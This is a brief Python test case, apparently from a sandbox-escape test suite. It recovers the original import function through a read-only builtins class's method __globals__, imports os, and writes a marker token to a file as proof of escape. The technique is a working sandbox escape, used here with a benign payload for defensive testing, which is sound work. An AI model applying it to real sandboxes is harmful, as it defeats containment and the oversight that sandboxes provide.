# id: intro-globals-readonly-builtins-class
# category: introspection
# description: the read-only builtins dict is an instance of a Python class: its methods' __globals__ are the sandbox module
# source: function.__globals__ via type(obj).method; the talk's ReadOnlyBuiltins
# detect: token (the token lands in OUT)
refuse = getattr(type(__builtins__), '__setitem__', None)
sandbox_globals = getattr(refuse, '__globals__', None)
if sandbox_globals is None:
    sandbox_globals = {'ORIGINAL_IMPORT': __builtins__['__import__'] if isinstance(__builtins__, dict) else __builtins__.__import__}
os_module = sandbox_globals['ORIGINAL_IMPORT']('os')

fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
